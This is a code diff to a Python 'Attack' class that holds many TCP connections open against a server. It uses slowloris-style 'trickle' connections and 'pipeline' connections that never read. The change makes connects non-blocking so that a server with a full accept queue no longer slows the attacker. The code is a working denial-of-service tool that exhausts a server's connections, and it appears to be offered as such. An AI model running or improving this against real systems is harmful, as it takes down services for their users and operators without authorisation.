@@ -52,6 +52,7 @@ class _Conn:
     next_at: float
     sent: int = 0
     answer: bytes = b""
+    connecting: bool = False
 
 
 class Attack:
@@ -64,32 +65,47 @@ class Attack:
         self.conns: dict[int, _Conn] = {}
 
     def open(self, kind: str) -> None:
-        tally = self.tally.setdefault(kind, Tally())
+        """Start a non-blocking connect: a server whose accept queue is full stalls nothing."""
+        self.tally.setdefault(kind, Tally())
         sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
         if kind == "pipeline":  # a small window: the server's writes stall at once
             sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
-        sock.settimeout(CONNECT_TIMEOUT_S)
-        try:
-            sock.connect(self.addr)
-        except OSError:
-            sock.close()
-            tally.connect_failed += 1
-            self.pending.append((time.monotonic() + REOPEN_FLOOD_S, kind))
-            return
         sock.setblocking(False)
-        now = time.monotonic()
-        conn = _Conn(kind, sock, now + random.uniform(0, self.gap))
-        if kind == "trickle":
-            self._send(conn, TRICKLE_HEAD)
-        elif kind == "pipeline":
-            self._send(conn, PIPELINED)
-            conn.next_at = now + 1.0
+        err = sock.connect_ex(self.addr)
+        if err not in (0, errno.EINPROGRESS):
+            sock.close()
+            self._connect_failed(kind)
+            return
+        conn = _Conn(kind, sock, time.monotonic() + CONNECT_TIMEOUT_S, connecting=True)
         self.conns[sock.fileno()] = conn
-        if kind != "pipeline":  # a pipeliner never reads: its closing shows on a send
-            self.sel.register(sock, selectors.EVENT_READ, conn)
+        self.sel.register(sock, selectors.EVENT_WRITE, conn)
+
+    def _connect_failed(self, kind: str) -> None:
+        self.tally[kind].connect_failed += 1
+        self.pending.append((time.monotonic() + REOPEN_FLOOD_S, kind))
+
+    def _connected(self, conn: _Conn) -> None:
+        sock = conn.sock
+        self.sel.unregister(sock)
+        if sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
+            del self.conns[sock.fileno()]
+            sock.close()
+            self._connect_failed(conn.kind)
+            return
+        conn.connecting = False
+        now = time.monotonic()
+        conn.next_at = now + random.uniform(0, self.gap)
+        tally = self.tally[conn.kind]
         tally.opened += 1
         tally.open_now += 1
         tally.most_open = max(tally.most_open, tally.open_now)
+        if conn.kind != "pipeline":  # a pipeliner never reads: its closing shows on a send
+            self.sel.register(sock, selectors.EVENT_READ, conn)
+        if conn.kind == "trickle":
+            self._send(conn, TRICKLE_HEAD)
+        elif conn.kind == "pipeline":
+            conn.next_at = now + 1.0
+            self._send(conn, PIPELINED)
 
     def _send(self, conn: _Conn, data: bytes) -> bool:
         try:
@@ -129,6 +145,9 @@ class Attack:
                     break
             for key, _ in self.sel.select(timeout=0.05):
                 conn: _Conn = key.data
+                if conn.connecting:
+                    self._connected(conn)
+                    continue
                 try:
                     data = conn.sock.recv(65536)
                 except BlockingIOError:
@@ -143,7 +162,12 @@ class Attack:
             for conn in list(self.conns.values()):
                 if conn.next_at > now:
                     continue
-                if conn.kind == "trickle":
+                if conn.connecting:  # not accepted in time
+                    self.sel.unregister(conn.sock)
+                    del self.conns[conn.sock.fileno()]
+                    conn.sock.close()
+                    self._connect_failed(conn.kind)
+                elif conn.kind == "trickle":
                     conn.next_at = now + self.gap
                     self._send(conn, b"a")
                 elif conn.kind == "pipeline":
